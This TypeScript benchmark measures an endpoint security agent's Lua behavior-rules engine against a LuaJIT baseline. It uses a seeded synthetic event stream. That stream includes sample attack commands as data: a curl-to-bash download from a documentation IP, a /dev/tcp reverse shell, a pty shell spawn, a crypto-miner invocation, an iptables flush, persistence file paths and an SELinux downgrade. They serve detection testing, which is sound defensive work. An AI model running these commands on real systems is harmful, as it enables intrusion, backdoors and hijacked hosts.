/**
 * Behavior rules engine, on one core (the process pins itself with taskset):
 *
 *  1. throughput of the 20 example rules (examples/Behavior, with the
 *     examples/ProductRulesFeed library) over a recorded mixed stream —
 *     with aggregation as the rules declare it, and without; both with the
 *     rules' on() conditions evaluated in TypeScript — as a ratio to the
 *     same rules under native LuaJIT driven by a plain Lua loop (every
 *     reactor for every event of its type), run in the same bench; LuaJIT
 *     with the same conditions tested in Lua is printed too (the stronger
 *     baseline);
 *  2. per-event latency p50/p99 (wall clock): the time a batch of 256
 *     takes (what an event waits), the cost per event within it, and the
 *     same for batches of one event, which shows what crossing the JS↔Lua
 *     boundary per event would cost;
 *
 * Throughput is CPU time on both sides (process.cpuUsage here, os.clock in
 * LuaJIT), so a busy machine slows the figures less than it skews them.
 *  3. load time for 500 rules, against LuaJIT loading the same 500.
 *
 *   bun bench/behavior.ts [--events 100000] [--runs 3]
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parseArgs } from "node:util";
import { RuleLimitsSchema, type RuleSource } from "../handlers/_shared/lua/format.ts";
import { readEventsFile } from "../handlers/Behavior/cli-agent-rules.ts";
import { BehaviorEngine } from "../handlers/Behavior/engine.ts";
import type { BehaviorEvent } from "../handlers/Behavior/events.ts";

const ROOT = join(import.meta.dir, "..");
const OUT = join(import.meta.dir, ".out");
const { values } = parseArgs({
  args: Bun.argv.slice(2),
  options: { events: { type: "string", default: "100000" }, runs: { type: "string", default: "3" } },
});
const N = Number(values.events);
const RUNS = Number(values.runs);

// ---------------------------------------------------------------- one core
if (!process.env.OUTPOST_BENCH_PINNED && Bun.which("taskset")) {
  const r = Bun.spawnSync(["taskset", "-c", "0", process.execPath, import.meta.path, ...Bun.argv.slice(2)], {
    stdout: "inherit",
    stderr: "inherit",
    env: { ...process.env, OUTPOST_BENCH_PINNED: "1" },
  });
  process.exit(r.exitCode ?? 1);
}
const luajit = Bun.which("luajit");
if (!luajit) {
  console.error("bench/behavior.ts: luajit not found (apt-get install -y luajit); it is the baseline");
  process.exit(2);
}

// ---------------------------------------------------------------- rules
function luaDir(dir: string): RuleSource[] {
  const order: string[] = existsSync(join(dir, "rules.json"))
    ? (JSON.parse(readFileSync(join(dir, "rules.json"), "utf8")).order ?? [])
    : [];
  const names = readdirSync(dir)
    .filter((f) => f.endsWith(".lua"))
    .map((f) => f.slice(0, -4))
    .sort();
  return [...order, ...names.filter((n) => !order.includes(n))].map((name) => ({
    name,
    file: join(dir, `${name}.lua`),
    source: readFileSync(join(dir, `${name}.lua`), "utf8"),
  }));
}
const rules = luaDir(join(ROOT, "examples/Behavior"));
const modules = luaDir(join(ROOT, "examples/ProductRulesFeed"));
const limits = RuleLimitsSchema.parse({});
const library = { version: 1, modules, limits };

// ---------------------------------------------------------------- the recorded stream
/** Deterministic (seeded) mix: mostly benign activity, ~1 % attack traffic. */
function record(n: number): string {
  let seed = 0x2545f491;
  const rnd = () => {
    seed ^= seed << 13;
    seed ^= seed >>> 17;
    seed ^= seed << 5;
    return (seed >>> 0) / 4294967296;
  };
  const pick = <T>(a: T[]): T => a[Math.floor(rnd() * a.length)]!;
  const benignCmd = [
    ["/usr/bin/ls", "ls -la /var/log"],
    ["/usr/bin/grep", "grep -r --include=*.ts TODO src/"],
    ["/usr/bin/python3", "python3 manage.py runserver 0.0.0.0:8000"],
    ["/usr/bin/git", "git fetch --prune origin"],
    ["/usr/bin/bash", "bash -c cd /srv/app && make test"],
    ["/usr/sbin/cron", "/usr/sbin/CRON -f"],
    ["/usr/bin/node", "node /srv/app/dist/server.js --port 3000"],
    ["/usr/bin/ssh", "ssh -o BatchMode=yes backup@10.0.0.9 rsync --server -logDtpre.iLsfxC . /backups"],
  ];
  const evilCmd = [
    ["/usr/bin/bash", "bash -c curl -fsSL http://203.0.113.7/i.sh | bash"],
    ["/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
    ["/usr/bin/python3", "python3 -c import pty; pty.spawn('/bin/bash')"],
    ["/tmp/.x/kworker", "/tmp/.x/kworker --donate-level 1 -o stratum+tcp://pool.example.net:3333"],
    ["/usr/bin/sudo", "sudo iptables -F"],
  ];
  const benignPaths = [
    "/var/log/syslog",
    "/var/log/nginx/access.log",
    "/srv/app/cache/index.bin",
    "/home/alice/notes.md",
  ];
  const evilPaths = [
    "/etc/cron.d/kworker",
    "/home/alice/.ssh/authorized_keys",
    "/etc/ld.so.preload",
    "/etc/sudoers.d/90-x",
  ];
  const lines: string[] = [];
  let t = 1_764_000_000_000;
  for (let i = 0; i < n; i++) {
    t += Math.floor(rnd() * 20);
    const evil = rnd() < 0.01;
    const r = rnd();
    let e: Record<string, unknown>;
    if (r < 0.55) {
      const [exe, cmd] = pick(evil ? evilCmd : benignCmd)!;
      e = {
        type: "process.start",
        time: t,
        pid: 2000 + (i % 30000),
        ppid: 1000 + (i % 7),
        uid: i % 3 ? 1000 : 0,
      };
      e.name = exe!.split("/").pop();
      e.exe = exe;
      e.cmdline = cmd;
    } else if (r < 0.85) {
      e = {
        type: "file.write",
        time: t,
        pid: 900 + (i % 50),
        exe: evil ? "/usr/bin/bash" : pick(["/usr/sbin/rsyslogd", "/usr/sbin/nginx", "/usr/bin/node"]),
        path: pick(evil ? evilPaths : benignPaths),
        bytes: Math.floor(rnd() * 4096),
      };
    } else if (r < 0.95) {
      e = {
        type: "network.connect",
        time: t,
        proto: "tcp",
        local: "10.0.0.5",
        lport: 40000 + (i % 20000),
        remote: evil ? "203.0.113.9" : pick(["151.101.1.69", "140.82.121.4", "10.0.0.9"]),
        rport: evil ? pick([4444, 3333]) : pick([443, 80, 22]),
        uid: 1000,
        inode: 90000 + i,
      };
    } else {
      e = evil
        ? {
            type: "config.change",
            time: t,
            key: "selinux.mode",
            value: "permissive",
            old: "enforcing",
            exe: "/usr/sbin/setenforce",
          }
        : {
            type: "config.change",
            time: t,
            key: "net.ipv4.ip_forward",
            value: "1",
            old: "0",
            exe: "/usr/sbin/sysctl",
          };
    }
    lines.push(JSON.stringify(e));
  }
  return `${lines.join("\n")}\n`;
}

mkdirSync(OUT, { recursive: true });
const streamFile = join(OUT, "behavior-stream.jsonl");
writeFileSync(streamFile, record(N));
const { events } = readEventsFile(streamFile);

// ---------------------------------------------------------------- wasmoon (the agent's engine)
const pct = (xs: number[], p: number) => {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.floor((p / 100) * s.length))] ?? 0;
};

interface EngineRun {
  eventsPerSec: number;
  detections: number;
  batchP50: number;
  batchP99: number;
  perEventP50: number;
  perEventP99: number;
}

async function runEngine(opts: {
  aggregation: boolean;
  batch: number;
  events: BehaviorEvent[];
}): Promise<EngineRun> {
  const best: EngineRun[] = [];
  for (let run = 0; run < RUNS; run++) {
    const engine = await BehaviorEngine.create(rules, limits, library, {
      batchSize: opts.batch,
      ignoreAggregation: !opts.aggregation,
    });
    // Warm up the interpreter (and the JIT for the JS side) on the first events.
    engine.process(
      opts.events.slice(0, Math.min(2000, opts.events.length)).map((e) => ({ ...e, time: e.time - 1e9 })),
    );
    const batches: number[] = [];
    const perEvent: number[] = [];
    let detections = 0;
    // Throughput in CPU time, like LuaJIT's os.clock(): other load on the machine does not count.
    const cpu0 = process.cpuUsage();
    for (let i = 0; i < opts.events.length; i += opts.batch) {
      const chunk = opts.events.slice(i, i + opts.batch);
      const t0 = performance.now();
      detections += engine.process(chunk).detections.length;
      const ms = performance.now() - t0;
      batches.push(ms);
      perEvent.push(ms / chunk.length);
    }
    const cpu = process.cpuUsage(cpu0);
    const seconds = (cpu.user + cpu.system) / 1e6;
    engine.close();
    best.push({
      eventsPerSec: opts.events.length / seconds,
      detections,
      batchP50: pct(batches, 50),
      batchP99: pct(batches, 99),
      perEventP50: pct(perEvent, 50),
      perEventP99: pct(perEvent, 99),
    });
  }
  return best.sort((a, b) => b.eventsPerSec - a.eventsPerSec)[0]!;
}

// ---------------------------------------------------------------- LuaJIT baseline (same rules, plain loop)
function luaString(s: string): string {
  let level = 0;
  while (s.includes(`]${"=".repeat(level)}]`)) level++;
  const eq = "=".repeat(level);
  return `[${eq}[\n${s}]${eq}]`;
}

function luaValue(v: unknown): string {
  if (typeof v === "number") return String(v);
  if (typeof v === "boolean") return v ? "true" : "false";
  return `"${String(v).replace(/[\\"\n\r\0]|[^\x20-\x7e]/g, (c) => `\\${c.charCodeAt(0)}`)}"`;
}

function luajitScript(
  eventsFile: string,
  ruleSet: RuleSource[],
  loadOnly: boolean,
  conditions = false,
): string {
  return `
local modules = { ${modules.map((m) => `{ name = ${luaValue(m.name)}, source = ${luaString(m.source)} }`).join(",\n")} }
local rules = { ${ruleSet.map((r) => `{ name = ${luaValue(r.name)}, source = ${luaString(r.source)} }`).join(",\n")} }
local product, subs, detections = {}, {}, 0
local conditions = ${conditions ? "true" : "false"}
-- The same conditions the agent evaluates in TypeScript, here in Lua (the stronger baseline).
local function compile(opts)
  local tests = {}
  for k, v in pairs(opts) do
    if k ~= "coalesce" and k ~= "min_rate" and k ~= "first" then
      local list = type(v) == "table" and v or { v }
      local field, op = k, "eq"
      for _, o in ipairs({ "in", "prefix", "suffix", "contains" }) do
        if k:sub(-#o - 1) == "_" .. o then field, op = k:sub(1, -#o - 2), o end
      end
      local set = {}
      for _, x in ipairs(list) do set[x] = true; set[tostring(x)] = true; if tonumber(x) then set[tonumber(x)] = true end end
      tests[#tests + 1] = function(e)
        local x = e[field]
        if x == nil then return false end
        if op == "eq" or op == "in" then return set[x] == true end
        x = tostring(x)
        for i = 1, #list do
          local n = list[i]
          if op == "prefix" and x:sub(1, #n) == n then return true end
          if op == "suffix" and x:sub(-#n) == n then return true end
          if op == "contains" and x:find(n, 1, true) then return true end
        end
        return false
      end
    end
  end
  if #tests == 0 then return nil end
  return function(e)
    for i = 1, #tests do if not tests[i](e) then return false end end
    return true
  end
end
local t_load = os.clock()
for _, m in ipairs(modules) do
  local fn = assert(loadstring(m.source, m.name))
  setfenv(fn, setmetatable({ product = product }, { __index = _G }))
  product[m.name] = fn()
end
for _, r in ipairs(rules) do
  local fn = assert(loadstring(r.source, r.name))
  local env = setmetatable({ product = product }, { __index = _G })
  env.describe = function() end
  env.log = function() end
  env.detect = function() detections = detections + 1 end
  env.on = function(t, a, b)
    local f, opts = a, b
    if type(a) == "table" then f, opts = b, a end
    subs[t] = subs[t] or {}
    local test = conditions and opts and compile(opts) or nil
    table.insert(subs[t], test and function(e) if test(e) then f(e) end end or f)
  end
  setfenv(fn, env)
  fn()
end
local load_ms = (os.clock() - t_load) * 1000
if ${loadOnly ? "true" : "false"} then print(string.format('{"loadMs":%.3f}', load_ms)) return end
local events = dofile(${luaValue(eventsFile)})
local function pass()
  for i = 1, #events do
    local e = events[i]
    local list = subs[e.type]
    if list then for j = 1, #list do list[j](e) end end
  end
end
pass() -- warm-up (traces compiled)
detections = 0
local best = 1e9
for run = 1, ${RUNS} do
  detections = 0
  local t0 = os.clock()
  pass()
  local dt = os.clock() - t0
  if dt < best then best = dt end
end
print(string.format('{"eventsPerSec":%.1f,"detections":%d,"loadMs":%.3f}', #events / best, detections, load_ms))
`;
}

function luajitEvents(evs: BehaviorEvent[]): string {
  // Chunked into functions: one huge table constructor exceeds LuaJIT's per-function limits.
  const out = ["local E = {}"];
  for (let i = 0; i < evs.length; i += 500) {
    out.push("do local function f()");
    for (const e of evs.slice(i, i + 500)) {
      out.push(
        `E[#E+1] = {${Object.entries(e)
          .map(([k, v]) => `[${luaValue(k)}]=${luaValue(v)}`)
          .join(",")}}`,
      );
    }
    out.push("end f() end");
  }
  out.push("return E");
  return out.join("\n");
}

function runLuajit(script: string): Record<string, number> {
  const file = join(OUT, "behavior-luajit.lua");
  writeFileSync(file, script);
  const r = Bun.spawnSync([luajit!, file], { stdout: "pipe", stderr: "pipe" });
  if (r.exitCode !== 0) throw new Error(`luajit failed: ${r.stderr.toString()}`);
  return JSON.parse(r.stdout.toString().trim().split("\n").pop()!);
}

// ---------------------------------------------------------------- 500 rules
function fiveHundred(): RuleSource[] {
  return Array.from({ length: 500 }, (_, i) => {
    const base = rules[i % rules.length]!;
    return { ...base, name: `${base.name}-${i}`, source: `-- copy ${i}\n${base.source}` };
  });
}

async function loadMs(ruleSet: RuleSource[]): Promise<number> {
  const times: number[] = [];
  for (let run = 0; run < RUNS; run++) {
    const t0 = performance.now();
    const e = await BehaviorEngine.create(ruleSet, limits, library);
    times.push(performance.now() - t0);
    e.close();
  }
  return Math.min(...times);
}

// ---------------------------------------------------------------- run
const eventsLua = join(OUT, "behavior-events.lua");
writeFileSync(eventsLua, luajitEvents(events));
const jit = runLuajit(luajitScript(eventsLua, rules, false));
const jitCond = runLuajit(luajitScript(eventsLua, rules, false, true));
const withAgg = await runEngine({ aggregation: true, batch: 256, events });
const noAgg = await runEngine({ aggregation: false, batch: 256, events });
const single = await runEngine({
  aggregation: false,
  batch: 1,
  events: events.slice(0, Math.min(5000, events.length)),
});
const rules500 = fiveHundred();
const load500 = await loadMs(rules500);
const jitLoad500 = runLuajit(luajitScript(eventsLua, rules500, true)).loadMs!;

const f = (n: number, d = 0) =>
  n.toLocaleString("en-US", { maximumFractionDigits: d, minimumFractionDigits: d });
console.log(
  `Behavior: ${rules.length} rules + ${modules.length} product modules, ${f(events.length)} recorded events, one core`,
);
console.log(
  `  luajit (plain loop, no aggregation):   ${f(jit.eventsPerSec!)} events/s   ${f(jit.detections!)} detections`,
);
console.log(
  `  luajit (same conditions, in Lua):      ${f(jitCond.eventsPerSec!)} events/s   ${f(jitCond.detections!)} detections`,
);
console.log(
  `  outpost, with aggregation (batch 256):   ${f(withAgg.eventsPerSec)} events/s   ${f(withAgg.detections)} detections   ratio ${(withAgg.eventsPerSec / jit.eventsPerSec!).toFixed(3)}`,
);
console.log(
  `  outpost, no aggregation   (batch 256):   ${f(noAgg.eventsPerSec)} events/s   ${f(noAgg.detections)} detections   ratio ${(noAgg.eventsPerSec / jit.eventsPerSec!).toFixed(3)}`,
);
console.log(
  `  outpost, no aggregation   (batch 1):     ${f(single.eventsPerSec)} events/s   (per-event boundary crossing, first ${f(Math.min(5000, events.length))} events)`,
);
console.log(
  "  latency, batch of 256: p50 %s ms  p99 %s ms;  per event: p50 %s µs  p99 %s µs",
  f(withAgg.batchP50, 2),
  f(withAgg.batchP99, 2),
  f(withAgg.perEventP50 * 1000, 1),
  f(withAgg.perEventP99 * 1000, 1),
);
console.log(
  "  latency, batch of 1:   p50 %s µs  p99 %s µs",
  f(single.batchP50 * 1000, 1),
  f(single.batchP99 * 1000, 1),
);
console.log(
  `  detections agree with luajit (no aggregation): ${noAgg.detections === jit.detections ? "yes" : `NO (${noAgg.detections} vs ${jit.detections})`}`,
);
console.log(
  `  load 500 rules: outpost ${f(load500, 1)} ms, luajit ${f(jitLoad500, 1)} ms, ratio ${(jitLoad500 / load500).toFixed(3)}`,
);
writeFileSync(
  join(OUT, "behavior.json"),
  JSON.stringify(
    {
      events: events.length,
      luajit: jit,
      luajitConditions: jitCond,
      withAgg,
      noAgg,
      single,
      load500,
      jitLoad500,
    },
    null,
    2,
  ),
);
